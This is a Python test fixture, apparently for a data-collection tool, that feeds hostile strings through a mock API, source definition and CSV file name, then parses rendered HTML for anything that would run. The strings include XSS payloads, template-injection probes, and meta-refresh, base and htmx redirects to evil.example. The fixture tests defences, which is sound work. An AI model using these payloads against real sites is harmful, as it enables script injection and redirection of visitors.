"""An API whose every word would run as a script: takes a folder, gives a home with what was collected from it.

Each text begins and ends something that a page is made of, and calls `pwned()`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import ladle
from ladle.testing import Request, ScriptedApi, answer

MARK = "pwned"
HOMEPAGE = f"https://evil.example/'onclick='{MARK}()"
SCRIPT = f"<script>{MARK}()</script>"
TEXTS = (
    SCRIPT,
    f'"><img src=x onerror={MARK}()>',
    f"' onmouseover='{MARK}()' x='",
    f'" autofocus onfocus={MARK}() x="',
    f"javascript:{MARK}()",
    f"data:text/html,{SCRIPT}",
    f"</title></style></textarea></select></svg>{SCRIPT}",
    f"<svg/onload={MARK}()>",
    f"{{{{7*7}}}}{MARK}",
    f"{{% load x %}}{MARK}",
    f"${{7*7}}{MARK}",
    f"]]>--><!--{SCRIPT}",
    f"&lt;script&gt;{MARK}()",
    f"<a href='jAvAsCrIpT\t:{MARK}()' style='position:fixed'>x</a>",
    f"<form action=//evil.example><input name=x hx-get=//evil.example hx-trigger=load>{MARK}",
    f"<meta http-equiv=refresh content='0;//evil.example'><base href=//evil.example>{MARK}",
    f"\u202e{SCRIPT}\x00\x1b[2J",
)
_LINKS = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "content"})
_MADE = frozenset({"iframe", "object", "embed", "base", "applet", "frame"})


def definition(base_url: str) -> str:
    """A source whose titles, licence and columns are such texts."""
    quoted = [json.dumps(text.replace("\x00", "")) for text in TEXTS]
    columns = ", ".join(f'{{ name = {name}, path = "text" }}' for name in quoted[:8])
    return f"""ladle = 1
name = "evil"
title = {quoted[0]}
homepage = "{HOMEPAGE}"
license = {quoted[1]}
base_url = "{base_url}"
quota = "100000 per minute"
[resources.things]
path = "things"
records = "results"
paging = "none"
error = {{ path = "wrong", reason = "why" }}
[datasets.things]
title = {quoted[2]}
resource = "things"
columns = ["id", "text", {{ name = "day", path = "day", type = "date" }}, "latitude", "longitude", {columns}]
"""


class Api:
    """What the API says: a list of records, or an error in the same words."""

    def __init__(self) -> None:
        self.fails = False
        self.server = ScriptedApi({"/things": self._things})

    def _things(self, _request: Request) -> object:
        if self.fails:
            return answer({"wrong": True, "why": "".join(TEXTS[:2])})
        return {"results": [_record(number, text) for number, text in enumerate(TEXTS, start=1)]}


def _record(number: int, text: str) -> dict[str, object]:
    at = {"latitude": number * 2.5, "longitude": number * 3.5}
    return {"id": number, "text": text, "day": f"2026-01-{number:02}", **at}


@dataclass(frozen=True, slots=True)
class Hostile:
    """Where it all lies, and what it goes by."""

    home: Path
    api: Api
    snapshots: tuple[str, str]
    failed: str
    imported: str


@contextmanager
def hostile(folder: Path) -> Iterator[Hostile]:
    """The API, and a home in which it was collected from: twice well, once not; beside it a file of such a name."""
    api, home = Api(), folder / "home"
    with api.server:
        ladle.add_source(definition(api.server.url), home=home)
        first, second = (ladle.collect("evil/things", home=home, afresh=True).id for _ in range(2))
        api.fails = True
        try:
            ladle.collect("evil/things", home=home, afresh=True)
        except ladle.LadleError:
            failed = max(ladle.run_ids(home=home))
        yield Hostile(home, api, (second, first), failed, _imported(folder, home))


def _imported(folder: Path, home: Path) -> str:
    """A table of names and cells that were taken from a file, whose own name is no better."""
    path = folder / f"'\"><img src=x onerror={MARK}()>.csv"
    names = ",".join('"' + text.replace('"', '""').replace("\x00", "") + '"' for text in TEXTS)
    path.write_text(f"{names}\n{names}\n", "utf-8")
    return ladle.import_file(path, name="files/evil", home=home).id


class Page(HTMLParser):
    """What of a page would run, or lead elsewhere: nothing but the site's own scripts may."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told: dict[str, Any] = {name: value or "" for name, value in attrs}
        if tag == "script" and not told.get("src", "").startswith("/static/"):
            self.wrong.append(f"a script in the page: {told}")
        if tag in _MADE or (tag == "meta" and "http-equiv" in told):
            self.wrong.append(f"<{tag} {told}>")
        self.wrong += [f"{tag} {name}={value}" for name, value in told.items() if is_wrong(name, value)]


def is_wrong(name: str, value: str) -> bool:
    """Whether an attribute runs something, or has the browser ask another site by itself."""
    address = "".join(value.split()).lower()
    runs = address.startswith(("javascript:", "vbscript:", "data:text", "//"))
    elsewhere = name.startswith("hx-") and address.startswith("http")
    return name.startswith("on") or name == "style" or (name in _LINKS and runs) or elsewhere
